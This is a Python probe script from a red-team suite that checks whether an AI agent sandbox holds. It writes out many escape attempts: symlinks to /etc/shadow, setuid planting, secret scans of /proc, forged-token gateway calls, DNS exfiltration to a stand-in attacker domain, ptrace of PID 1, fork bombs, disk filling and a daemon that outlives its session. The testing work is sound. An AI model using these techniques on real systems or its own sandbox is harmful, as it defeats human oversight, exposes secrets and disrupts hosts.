"""Attack probes that run INSIDE a Taskbox sandbox and print one JSON report line.

The red-team suite copies this file into the target repository (a relevant,
read-only file) and runs ``python /work/probes/sandbox_probe.py ATTACK ARGS...``
either directly (``run_in_task_sandbox``, the ``taskbox sandbox run`` path) or
from a hostile pytest test written by a scripted model. Each attack tries many
things and records, per attempt, ``"ok"`` or the errno name it got; the host
side asserts the expected safe outcome of each attempt separately.

Standard library only: it runs on the sandbox image's Python, not the host's.
"""
# ruff: noqa: T201, BLE001, PTH101, PTH102, PTH116, PTH123, PTH208, PTH211, S103 - a probe prints its report, every failure (of any type) is data,
# and the attacks are the plain os calls (symlink, chmod 6777, open) a hostile program makes

from __future__ import annotations

import contextlib
import ctypes
import errno
import functools
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPORT_PREFIX = "TASKBOX-PROBE "
LISTENING_PREFIX = "TASKBOX-LISTENING "
READY_PREFIX = "TASKBOX-READY "
MIB = 1024 * 1024

Report = dict[str, Any]


def outcome(action: Callable[[], object]) -> str:
    """``"ok"`` when ``action`` succeeds, else the errno name (or exception type) it failed with."""
    try:
        action()
    except OSError as exc:
        return errno.errorcode.get(exc.errno or 0, type(exc).__name__)
    except Exception as exc:
        return type(exc).__name__
    return "ok"


def emit(report: Report) -> None:
    """Print the report as the one line the host parses."""
    print(REPORT_PREFIX + json.dumps(report, sort_keys=True), flush=True)


def _write(path: str, data: bytes = b"x") -> None:
    with open(path, "ab") as handle:
        handle.write(data)


def _libc() -> ctypes.CDLL:
    return ctypes.CDLL(None, use_errno=True)


def _syscall_outcome(number: int, *args: int) -> str:
    """Raw syscall via libc; the errno name or ``"ok"``."""
    libc = _libc()
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) for a in args))
    if result == -1:
        return errno.errorcode.get(ctypes.get_errno(), "unknown")
    return "ok"


def _status_fields() -> dict[str, str]:
    fields: dict[str, str] = {}
    for line in Path("/proc/self/status").read_text().splitlines():
        key, _, value = line.partition(":")
        fields[key] = value.strip()
    return fields


# --------------------------------------------------------------------------- filesystem


def attack_filesystem(owned_dir: str, owned_file: str, relevant: str, *absent: str) -> Report:
    """Writes everywhere; what exists under /work; exec from tmpfs."""
    targets = {
        "root": "/taskbox-probe",
        "usr": "/usr/taskbox-probe",
        "etc_passwd": "/etc/passwd",
        "work_root": "/work/taskbox-probe",
        "work_relevant": f"/work/{relevant}",
        "taskbox_run_json": "/taskbox/run.json",
        "taskbox_dir": "/taskbox/taskbox-probe",
        "gateway_dir": "/run/taskbox/taskbox-probe",
        "venv": "/opt/venv/taskbox-probe",
        "owned_dir": f"/work/{owned_dir}/probe.txt",
        "owned_file": f"/work/{owned_file}",
        "out": "/out/probe.txt",
        "tmp": "/tmp/probe.txt",
        "home": "/home/sandbox/probe.txt",
    }
    writes = {name: outcome(functools.partial(_write, path)) for name, path in targets.items()}
    # A folder made next to the owned path is still inside the read-only /work bind.
    writes["mkdir_beside_owned"] = outcome(lambda: os.mkdir(f"/work/{owned_dir}-sibling"))
    listing = sorted(
        str(Path(root, name).relative_to("/work"))
        for root, dirs, files in os.walk("/work")
        for name in [*dirs, *files]
    )
    script = "/tmp/probe-exec.sh"
    Path(script).write_text("#!/bin/sh\necho executed\n")
    Path(script).chmod(0o755)
    return {
        "writes": writes,
        "work_listing": listing,
        "absent": {name: not os.path.lexists(f"/work/{name}") for name in absent},
        "exec_from_tmp": outcome(lambda: subprocess.run([script], check=True, capture_output=True)),
        "setuid_on_owned": _setuid_attempt(f"/work/{owned_dir}/setuid-probe"),
    }


def _setuid_attempt(path: str) -> Report:
    """Plant a setuid, world-writable executable; report the mode the kernel kept."""
    Path(path).write_text("#!/bin/sh\nid -u\n")
    chmod = outcome(lambda: os.chmod(path, 0o6777))
    mode = os.stat(path).st_mode
    return {"chmod": chmod, "setuid_kept": bool(mode & stat.S_ISUID), "mode": oct(mode & 0o7777)}


def attack_links(owned_dir: str, host_file: str, host_dir: str, relevant: str) -> Report:
    """Plant links and special files where the controller collects and cleans up."""
    report: Report = {}
    # Symbolic links under the names the collector reads, aimed at host files.
    report["symlink_result_json"] = outcome(lambda: os.symlink(host_file, "/out/result.json"))
    report["symlink_bundle"] = outcome(lambda: os.symlink("/etc/shadow", "/out/result.bundle"))
    report["symlink_dir_in_owned"] = outcome(
        lambda: os.symlink(host_dir, f"/work/{owned_dir}/escape")
    )
    report["symlink_dir_out"] = outcome(lambda: os.symlink("/", "/out/rootlink"))
    report["write_through_dir_link"] = outcome(lambda: _write("/out/rootlink/taskbox-probe"))
    # Hard links: inside one mount they work (nlink 2); across mounts the kernel says EXDEV.
    Path("/out/original").write_text('{"task_key": "SEC-1", "status": "succeeded"}')
    report["hardlink_in_out"] = outcome(lambda: os.link("/out/original", "/out/hardlink"))
    report["hardlink_from_relevant"] = outcome(
        lambda: os.link(f"/work/{relevant}", f"/work/{owned_dir}/linked")
    )
    report["hardlink_from_run_json"] = outcome(
        lambda: os.link("/taskbox/run.json", "/out/run.json")
    )
    # Special files: a FIFO would block a naive reader; a socket or device is no file at all.
    report["fifo"] = outcome(lambda: os.mkfifo("/out/fifo"))
    report["socket"] = outcome(lambda: _bind_unix("/out/socket"))
    report["mknod_char"] = outcome(
        lambda: os.mknod("/out/device", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    )
    # A 1 TB sparse file is stopped by RLIMIT_FSIZE; the largest allowed one stays sparse.
    report["sparse_1tb"] = outcome(lambda: _truncate("/out/sparse", 10**12))
    fsize = _fsize_limit()
    report["fsize_limit"] = fsize
    report["sparse_at_limit"] = outcome(lambda: _truncate("/out/sparse", fsize))
    return report


def _bind_unix(path: str) -> None:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(path)  # left bound: the container's end closes it


def _truncate(path: str, size: int) -> None:
    with open(path, "ab") as handle:
        handle.truncate(size)


def _fsize_limit() -> int:
    import resource  # noqa: PLC0415 - Unix-only module, imported where used

    soft, _hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    return int(soft)


def attack_flip(host_file: str, seconds: str) -> Report:
    """Swap result.json between a file and a link to a host file as fast as possible, then stop."""
    end = time.monotonic() + float(seconds)
    flips = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            Path("/out/.flip").write_text('{"task_key": "SEC-1", "status": "succeeded"}')
            Path("/out/.flip").replace("/out/result.json")
        with contextlib.suppress(OSError):
            Path("/out/.flip-link").unlink(missing_ok=True)
            os.symlink(host_file, "/out/.flip-link")
            Path("/out/.flip-link").replace("/out/result.json")
        flips += 1
    return {"flips": flips}


# --------------------------------------------------------------------------- /proc, /sys, secrets


def attack_secrets(*reversed_canaries: str) -> Report:
    """Look for the canaries (API key, .env contents) everywhere a sandbox can read.

    They arrive reversed, so the command line (visible in /proc) never holds them.
    """
    canaries = tuple(c[::-1] for c in reversed_canaries)
    found: list[str] = []
    found += [f"env:{k}" for k, v in os.environ.items() if any(c in v or c in k for c in canaries)]
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            for name in ("environ", "cmdline"):
                with contextlib.suppress(OSError):
                    data = (proc / name).read_bytes()
                    found += [f"{proc}/{name}" for c in canaries if c.encode() in data]
    for top in (
        "/work",
        "/taskbox",
        "/run",
        "/tmp",
        "/home",
        "/out",
        "/etc",
        "/root",
        "/opt/venv/bin",
    ):
        found += _grep_tree(Path(top), canaries)
    home = Path.home()
    return {
        "found": found,
        "env_names": sorted(os.environ),
        "docker_host": os.environ.get("DOCKER_HOST"),
        "home_files": {
            name: (home / name).exists()
            for name in (
                ".netrc",
                ".gitconfig",
                ".docker/config.json",
                ".ssh",
                ".aws",
                ".git-credentials",
            )
        },
        "open_fds": sorted(int(fd) for fd in os.listdir("/proc/self/fd")),
        "run_json_mode": oct(Path("/taskbox/run.json").stat().st_mode & 0o777)
        if Path("/taskbox/run.json").exists()
        else None,
        "proc": _proc_masks(),
    }


def _grep_tree(top: Path, canaries: tuple[str, ...]) -> list[str]:
    hits: list[str] = []
    for root, _dirs, files in os.walk(top):
        for name in files:
            path = Path(root, name)
            with contextlib.suppress(OSError):
                if path.is_symlink() or not path.is_file() or path.stat().st_size > 4 * MIB:
                    continue
                data = path.read_bytes()
                hits += [str(path) for c in canaries if c.encode() in data]
    return hits


def read_state(path: str) -> str:
    """``"absent"``, ``"empty"`` (a masked file reads as nothing), ``"readable"`` or the errno name."""
    if not os.path.lexists(path):
        return "absent"
    try:
        with open(path, "rb") as handle:
            data = handle.read(4096)
    except OSError as exc:
        return errno.errorcode.get(exc.errno or 0, type(exc).__name__)
    return "readable" if data else "empty"


def _proc_masks() -> Report:
    firmware = Path("/sys/firmware")
    return {
        "reads": {
            path: read_state(path)
            for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug")
        },
        "sys_firmware_entries": sorted(p.name for p in firmware.iterdir())
        if firmware.is_dir()
        else [],
        "pid1_environ": read_state("/proc/1/environ"),
        "mountinfo": Path("/proc/self/mountinfo").read_text(),
    }


def _gateway_call(path: str, headers: dict[str, str], body: bytes) -> tuple[int, bytes]:
    """One HTTP request to the model gateway over its Unix socket."""
    import http.client  # noqa: PLC0415 - only this attack needs it

    class UnixConnection(http.client.HTTPConnection):
        def connect(self) -> None:
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.settimeout(10)
            self.sock.connect("/run/taskbox/gateway.sock")

    conn = UnixConnection("gateway")
    try:
        conn.request(
            "POST", path, body=body, headers={"content-type": "application/json", **headers}
        )
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def attack_gateway(*reversed_canaries: str) -> Report:
    """Call the gateway without, or with a wrong, token; ask it for a forbidden model or path."""
    canaries = tuple(c[::-1] for c in reversed_canaries)
    token = json.loads(Path("/taskbox/run.json").read_text())["gateway_token"]
    request = json.dumps(
        {
            "model": "claude-sonnet-4-6",
            "max_tokens": 16,
            "messages": [{"role": "user", "content": "hi"}],
        }
    ).encode()
    forbidden_model = json.dumps(
        {
            "model": "claude-forbidden-1",
            "max_tokens": 16,
            "messages": [{"role": "user", "content": "hi"}],
        }
    ).encode()
    calls = {
        "no_token": ("/v1/messages", {}, request),
        "wrong_token": ("/v1/messages", {"x-api-key": "wrong-" + token[6:]}, request),
        "wrong_bearer": (
            "/v1/messages",
            {"authorization": "Bearer not-the-token-0123456789"},
            request,
        ),
        "forbidden_model": ("/v1/messages", {"x-api-key": token}, forbidden_model),
        "other_path": ("/v1/messages/../../v1/complete", {"x-api-key": token}, request),
        "absolute_url": ("http://evil.invalid/v1/messages", {"x-api-key": token}, request),
    }
    statuses: dict[str, int | str] = {}
    leaked: list[str] = []
    for name, (path, headers, body) in calls.items():
        try:
            status, answer = _gateway_call(path, headers, body)
        except Exception as exc:
            statuses[name] = type(exc).__name__
            continue
        statuses[name] = status
        leaked += [name for c in canaries if c.encode() in answer]
    return {"statuses": statuses, "leaked": leaked}


# --------------------------------------------------------------------------- network


def _connect(family: int, kind: int, address: tuple[str, int], timeout: float = 2.0) -> None:
    sock = socket.socket(family, kind)
    sock.settimeout(timeout)
    try:
        sock.connect(address)
    finally:
        sock.close()


#: TEST-NET-3: reserved for documentation, never routed. Outbound attempts aim here only.
OUTSIDE = "203.0.113.1"


def _ping(address: str) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    try:
        sock.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (address, 0))
    finally:
        sock.close()


def attack_network(port: str, *host_addresses: str) -> Report:
    """Reach out (route lookups, the host, the controller's port), resolve names, open raw sockets.

    Attempts that would send a packet off the machine are made only when there is no
    route at all (then they cannot); with a route, they report ``route-exists-not-tried``,
    which fails the test just as well and keeps the traffic rule (loopback only).
    """
    number = int(port)
    routes = Path("/proc/net/route").read_text().splitlines()[1:]

    def offbox(action: Callable[[], object]) -> str:
        return "route-exists-not-tried" if routes else outcome(action)

    report: Report = {
        "interfaces": sorted(os.listdir("/sys/class/net")),
        "routes": routes,
        # A UDP connect() only looks the route up: it sends nothing, wherever it points.
        "udp_internet": outcome(lambda: _connect(socket.AF_INET, socket.SOCK_DGRAM, (OUTSIDE, 53))),
        "udp_metadata": outcome(
            lambda: _connect(socket.AF_INET, socket.SOCK_DGRAM, ("169.254.169.254", 80))
        ),
        "udp6_internet": outcome(
            lambda: _connect(socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 53))
        ),
        "tcp_internet": offbox(
            lambda: _connect(socket.AF_INET, socket.SOCK_STREAM, (OUTSIDE, 443))
        ),
        "tcp_metadata": offbox(
            lambda: _connect(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))
        ),
        # 127.0.0.1 inside is the sandbox's own loopback, whatever listens on the host's.
        "tcp_own_loopback_controller_port": outcome(
            lambda: _connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", number))
        ),
        # The host's own addresses: traffic to them never leaves the machine.
        "tcp_host": {
            address: outcome(
                functools.partial(_connect, socket.AF_INET, socket.SOCK_STREAM, (address, number))
            )
            for address in host_addresses
        },
        "dns_exfiltration": offbox(
            lambda: socket.getaddrinfo("c2VjcmV0.exfil.taskbox-attacker.invalid", 443)
        ),
        "dns_public_name": offbox(lambda: socket.getaddrinfo("pypi.org", 443)),
        "raw_packet": outcome(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()),
        "raw_icmp": outcome(
            lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        ),
        "ping": offbox(lambda: _ping(OUTSIDE)),
        "docker_host_env": os.environ.get("DOCKER_HOST"),
        "unix_sockets": _unix_sockets(),
    }
    report["inbound"] = _listen_and_wait(8080, seconds=4.0)
    return report


def _unix_sockets() -> list[str]:
    found = []
    for top in ("/", "/run", "/var", "/tmp", "/work", "/out", "/taskbox"):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if str(Path(root, d)) not in ("/proc", "/sys", "/dev")]
            for name in files:
                with contextlib.suppress(OSError):
                    if stat.S_ISSOCK(os.lstat(Path(root, name)).st_mode):
                        found.append(str(Path(root, name)))
    return sorted(set(found))


def _listen_and_wait(port: int, *, seconds: float) -> Report:
    """Listen on every address; tell the host; report whether anything connected."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", port))  # noqa: S104 - listening everywhere is the attack
    server.listen(1)
    server.settimeout(seconds)
    print(LISTENING_PREFIX + str(port), flush=True)
    try:
        conn, peer = server.accept()
    except TimeoutError:
        return {"listen": "ok", "accepted": None}
    finally:
        server.close()
    conn.close()
    return {"listen": "ok", "accepted": peer[0]}


# --------------------------------------------------------------------------- privileges

_SYS_KEYCTL = 250
_SYS_BPF = 321
_SYS_UNSHARE = 272
_SYS_PTRACE = 101
_CLONE_NEWUSER = 0x10000000
_CLONE_NEWNS = 0x00020000
_PTRACE_ATTACH = 16


def attack_privileges() -> Report:
    """Posture, then every privilege the sandbox should not have."""
    status = _status_fields()
    libc = _libc()
    libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_void_p]
    setuid_files = []
    root_dev = os.stat("/").st_dev
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.lstat(Path(root, d)).st_dev == root_dev]
        for name in files:
            with contextlib.suppress(OSError):
                mode = os.lstat(Path(root, name)).st_mode
                if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
                    setuid_files.append(str(Path(root, name)))

    def mount_tmpfs() -> None:
        Path("/tmp/mnt").mkdir(exist_ok=True)
        if libc.mount(b"none", b"/tmp/mnt", b"tmpfs", 0, None) != 0:
            raise OSError(ctypes.get_errno(), "mount")

    return {
        "uid": os.getuid(),
        "euid": os.geteuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "caps": {k: status[k] for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")},
        "no_new_privs": status.get("NoNewPrivs"),
        "seccomp": status.get("Seccomp"),
        "setuid_files": sorted(setuid_files),
        "su": outcome(
            lambda: subprocess.run(
                ["su", "-c", "id -u", "root"],
                check=True,
                capture_output=True,
                stdin=subprocess.DEVNULL,
                timeout=10,
            )
        ),
        "setuid_0": outcome(lambda: os.setuid(0)),
        "unshare_user": _syscall_outcome(_SYS_UNSHARE, _CLONE_NEWUSER),
        "unshare_mount": _syscall_outcome(_SYS_UNSHARE, _CLONE_NEWNS),
        "unshare_cli": outcome(
            lambda: subprocess.run(["unshare", "-Ur", "true"], check=True, capture_output=True)
        ),
        "mount": outcome(mount_tmpfs),
        "mknod": outcome(lambda: os.mknod("/tmp/null", 0o600 | stat.S_IFCHR, os.makedev(1, 3))),
        "keyctl": _syscall_outcome(_SYS_KEYCTL, 0, 0, 0, 0, 0),
        "bpf": _syscall_outcome(_SYS_BPF, 0, 0, 0),
        "chroot": outcome(lambda: os.chroot("/tmp")),
        "writes": {
            path: outcome(functools.partial(_write, path, b"1"))
            for path in (
                "/sys/fs/cgroup/pids/pids.max",
                "/sys/fs/cgroup/memory/memory.limit_in_bytes",
                "/sys/fs/cgroup/taskbox-probe",
                "/proc/sys/kernel/hostname",
                "/proc/sysrq-trigger",
                "/sys/kernel/uevent_helper",
            )
        },
    }


# --------------------------------------------------------------------------- resources


def attack_forkbomb() -> Report:
    """Fork until the kernel says no; the pids cgroup must stop it well before the host notices."""
    children: list[int] = []
    failure = "none"
    for _ in range(100_000):
        try:
            pid = os.fork()
        except OSError as exc:
            failure = errno.errorcode.get(exc.errno or 0, "unknown")
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    threads_failure = _thread_bomb()
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    for pid in children:
        os.waitpid(pid, 0)
    return {
        "forked": len(children),
        "fork_failure": failure,
        "threads_failure": threads_failure,
        "pids_max": Path("/sys/fs/cgroup/pids/pids.max").read_text().strip(),
    }


def _thread_bomb() -> str:
    stop = threading.Event()
    started = []
    try:
        for _ in range(100_000):
            thread = threading.Thread(target=stop.wait, daemon=True)
            thread.start()
            started.append(thread)
    except RuntimeError as exc:
        return type(exc).__name__
    finally:
        stop.set()
    return "none"


def attack_memory() -> Report:
    """Allocate and touch memory in 16 MiB steps until something stops it (the OOM killer)."""
    chunks = []
    for step in range(1, 1024):
        chunks.append(bytearray(16 * MIB))  # bytearray pages are written (zeroed), so they count
        print(f"allocated {step * 16} MiB", flush=True)
    return {"allocated_mib": len(chunks) * 16}


def _fill(path: str, chunk: int = MIB, limit: int = 4096) -> tuple[int, str]:
    written = 0
    data = b"\0" * chunk
    try:
        with open(path, "wb", buffering=0) as handle:
            for _ in range(limit):
                handle.write(data)
                written += chunk
    except OSError as exc:
        return written, errno.errorcode.get(exc.errno or 0, "unknown")
    return written, "none"


def _fill_folder(folder: str) -> tuple[int, str]:
    """Write files of at most RLIMIT_FSIZE each until the file system itself says no."""
    total = 0
    for index in range(256):
        written, error = _fill(f"{folder}/fill-{index}")
        total += written
        if error != "EFBIG":
            return total, error
    return total, "none"


def attack_fill(owned_dir: str) -> Report:
    """Fill /tmp, /dev/shm and an owned file; make many inodes in the owned folder."""
    tmp_bytes, tmp_error = _fill_folder("/tmp")
    shm_bytes, shm_error = _fill_folder("/dev/shm")
    file_bytes, file_error = _fill(f"/work/{owned_dir}/big.bin")
    made = 0
    inode_error = "none"
    try:
        for index in range(3000):
            Path(f"/work/{owned_dir}/inode-{index}").touch()
            made += 1
    except OSError as exc:
        inode_error = errno.errorcode.get(exc.errno or 0, "unknown")
    return {
        "tmp": {"bytes": tmp_bytes, "error": tmp_error},
        "shm": {"bytes": shm_bytes, "error": shm_error},
        "owned_file": {"bytes": file_bytes, "error": file_error, "fsize_limit": _fsize_limit()},
        "owned_inodes": {"made": made, "error": inode_error},
    }


def _cpu_stat() -> dict[str, int]:
    text = Path("/sys/fs/cgroup/cpu/cpu.stat").read_text()
    return {k: int(v) for k, v in (line.split() for line in text.splitlines())}


def attack_cpu(seconds: str) -> Report:
    """Spin two processes flat out; the CFS quota must throttle them."""
    before = _cpu_stat()
    end = time.monotonic() + float(seconds)
    pids = []
    for _ in range(2):
        pid = os.fork()
        if pid == 0:
            while time.monotonic() < end:
                pass
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.waitpid(pid, 0)
    after = _cpu_stat()
    return {
        "quota_us": int(Path("/sys/fs/cgroup/cpu/cpu.cfs_quota_us").read_text()),
        "period_us": int(Path("/sys/fs/cgroup/cpu/cpu.cfs_period_us").read_text()),
        "throttled_periods": after["nr_throttled"] - before["nr_throttled"],
    }


def attack_flood(megabytes: str) -> Report:
    """Write far more to stdout than the log cap allows."""
    line = ("F" * 1023 + "\n").encode()
    out = sys.stdout.buffer
    for _ in range(int(megabytes) * 1024):
        out.write(line)
    out.flush()
    return {"flooded_mib": int(megabytes)}


def attack_fds() -> Report:
    """Open descriptors until RLIMIT_NOFILE stops it."""
    opened = []
    failure = "none"
    try:
        for _ in range(1_000_000):
            opened.append(os.open("/dev/null", os.O_RDONLY))  # noqa: PERF401 - the loop must stop at the first failure
    except OSError as exc:
        failure = errno.errorcode.get(exc.errno or 0, "unknown")
    count = len(opened)
    for fd in opened:
        os.close(fd)
    return {"opened": count, "failure": failure}


def attack_stubborn() -> Report:
    """Ignore SIGTERM, ptrace-stop PID 1 (the init), then sleep forever: only a kill ends this."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    attached = _syscall_outcome(_SYS_PTRACE, _PTRACE_ATTACH, 1, 0, 0)
    print(READY_PREFIX + json.dumps({"ptrace_pid1": attached}), flush=True)
    while True:
        time.sleep(3600)


def attack_outlive(heartbeat: str) -> Report:
    """Leave a daemon behind (double fork, setsid, SIGHUP ignored) that keeps writing a heartbeat."""
    pid = os.fork()
    if pid == 0:
        os.setsid()
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        if os.fork() != 0:
            os._exit(0)
        beat = 0
        while True:
            beat += 1
            with contextlib.suppress(OSError):
                Path(heartbeat).write_text(str(beat))
            time.sleep(0.05)
    os.waitpid(pid, 0)
    time.sleep(0.5)  # let it beat a few times before the main process leaves
    return {"daemonized": True, "beats_before_exit": int(Path(heartbeat).read_text() or 0)}


def attack_neighbour(marker: str, other: str, seconds: str) -> Report:
    """Look for another task's processes and files while both run."""
    Path("/out/marker").write_text(marker)
    end = time.monotonic() + float(seconds)
    seen_other = False
    pids: set[int] = set()
    while time.monotonic() < end:
        for proc in Path("/proc").iterdir():
            if proc.name.isdigit():
                pids.add(int(proc.name))
                with contextlib.suppress(OSError):
                    # The neighbour's own marker comes right after the attack name in its argv.
                    seen_other |= (
                        b"neighbour\0" + other.encode() + b"\0" in (proc / "cmdline").read_bytes()
                    )
        time.sleep(0.1)
    own_sources = [
        line.split()[3]
        for line in Path("/proc/self/mountinfo").read_text().splitlines()
        if line.split()[4] == "/out"
    ]
    runs_dir = str(Path(own_sources[0]).parents[2]) if own_sources else ""
    return {
        "marker": marker,
        "seen_other_process": seen_other,
        "max_pid_seen": max(pids),
        "pid_count_seen": len(pids),
        "host_runs_dir": runs_dir,
        "host_runs_dir_visible": bool(runs_dir) and Path(runs_dir).exists(),
    }


ATTACKS: dict[str, Callable[..., Report]] = {
    "filesystem": attack_filesystem,
    "links": attack_links,
    "flip": attack_flip,
    "secrets": attack_secrets,
    "gateway": attack_gateway,
    "network": attack_network,
    "privileges": attack_privileges,
    "forkbomb": attack_forkbomb,
    "memory": attack_memory,
    "fill": attack_fill,
    "cpu": attack_cpu,
    "flood": attack_flood,
    "fds": attack_fds,
    "stubborn": attack_stubborn,
    "outlive": attack_outlive,
    "neighbour": attack_neighbour,
}


def main(argv: list[str]) -> int:
    """``sandbox_probe.py ATTACK ARGS...``: run one attack and print its report line."""
    attack = ATTACKS[argv[0]]
    report = attack(*argv[1:])
    emit({"attack": argv[0], **report})
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
